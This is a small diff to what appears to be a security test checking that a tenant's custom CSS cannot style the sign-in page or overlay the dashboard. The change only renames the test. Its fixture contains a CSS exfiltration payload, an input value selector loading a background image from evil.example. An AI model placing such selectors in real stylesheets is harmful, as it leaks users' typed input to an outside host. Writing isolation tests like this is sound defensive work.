@@ -17,7 +17,7 @@ input[value^='a'] { background: url(//evil.example/a); }
 @media (min-width: 1px) { a { text-indent: 3px; } }
 `
 
-it('an agency’s own CSS styles the dashboard, but neither sign-in nor layers over it: H-081', async () => {
+it('an agency’s own CSS styles the dashboard, but neither sign-in nor layers over it (H-081)', async () => {
   const owner = await agentWith('eu')
   const client = await clientWith(owner, { pages: ['/convos', '/leads'], brand: { customCSS } })
   const { agencyId } = await client.stored()
